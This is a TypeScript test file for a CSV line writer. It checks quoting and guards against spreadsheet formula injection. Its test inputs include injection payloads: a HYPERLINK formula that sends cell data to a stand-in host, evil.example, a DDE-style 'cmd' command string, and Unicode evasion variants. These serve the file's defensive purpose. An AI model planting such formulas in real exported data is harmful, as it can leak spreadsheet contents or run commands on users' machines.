import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from './csv-line.ts';

it('writes values as CSV has them', () => {
  const values = ['plain', 'a,b', 'say "hi"', 'two\nlines', 1.5, true, null, ['x', 1], { a: 'b' }];
  expect(csvLine(values)).toBe('plain,"a,b","say ""hi""","two\nlines",1.5,true,,"[""x"",1]","{""a"":""b""}"\r\n');
});

/** What a spreadsheet finds in the one cell of a line. */
const cellOf = (value: unknown) => {
  const line = csvLine([value]).slice(0, -2);
  return line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line;
};

describe('a text that a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['@SUM(1)', "'@SUM(1)"],
    ['+1+cmd', "'+1+cmd"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['=1+1', "'=1+1"],
    ['--1', "'--1"],
    ['+34 600 000 000', "'+34 600 000 000"],
    ['-', "'-"],
    ['  =1+1', "'  =1+1"],
    [' \u00a0\u3000=1+1', "' \u00a0\u3000=1+1"],
    ['\ufeff=1+1', "'\ufeff=1+1"],
    ['\u200b\u202e=1+1', "'\u200b\u202e=1+1"],
    ['\0=1+1', "'\0=1+1"],
    ['"=1+1"', `'"=1+1"`],
    ["'=1+1", "''=1+1"],
    ['“=1+1', "'“=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1+cmd', "'＋1+cmd"],
    ['－1+cmd', "'－1+cmd"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['﹦1', "'﹦1"],
    ['−1+cmd', "'−1+cmd"],
    ['\t=1+1', "'\t'=1+1"],
    ['\ttext', "'\ttext"],
    ['\rtext', "'\rtext"],
    ['\r\n=1+1', "'\r\n'=1+1"],
    ['a;=1+1', "a;'=1+1"],
    ['a;"=1+1', `a;'"=1+1`],
    ['a\t@SUM(1)', "a\t'@SUM(1)"],
    ['a\n=1+1', "a\n'=1+1"],
    ['5;-cmd', "5;'-cmd"],
    ['1e5e5;=1', "1e5e5;'=1"],
  ])('is made harmless: %j', (text, harmless) => {
    expect(cellOf(text)).toBe(harmless);
  });

  it('is made harmless in the names of columns, too', () => {
    expect(csvLine(['=cmd', 'n'])).toBe("'=cmd,n\r\n");
  });

  it('is left alone where it is a number, or begins as anything else', () => {
    const texts = [
      '-5',
      '+1.5',
      '.5',
      '-.5',
      '1.',
      '1e5',
      '-1.5E-10',
      '-inf',
      'nan',
      '-170141183460469231731687303715884105728',
    ];
    for (const text of [...texts, 'a=b', 'ann@example.com', 'a - b', '5-3', '(=1)', '', '1;-5', "O'Neill"])
      expect(cellOf(text)).toBe(text);
    expect(csvLine([-5, 1.5, -0.1])).toBe('-5,1.5,-0.1\r\n');
    expect(csvLine([['=1'], { '=a': '=1' }])).toMatch(/^"\[/);
  });

  it('never begins a cell, nor what a program with other separators takes for one', () => {
    const letters = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      ' ',
      '\t',
      '\r',
      '\n',
      ';',
      ',',
      '"',
      "'",
      '1',
      'a',
      '.',
      'e',
    );
    fc.assert(
      fc.property(fc.string({ unit: letters, maxLength: 12 }), (text) => {
        for (const part of cellOf(text).split(/[;\t\r\n]/))
          if (/^[\s"']*[=+\-@＝]/.test(part) && !part.startsWith("'")) expect(part).toMatch(/^[+-](\d|\.)[\d.e+-]*$/);
      }),
      { numRuns: 5000 },
    );
  });
});
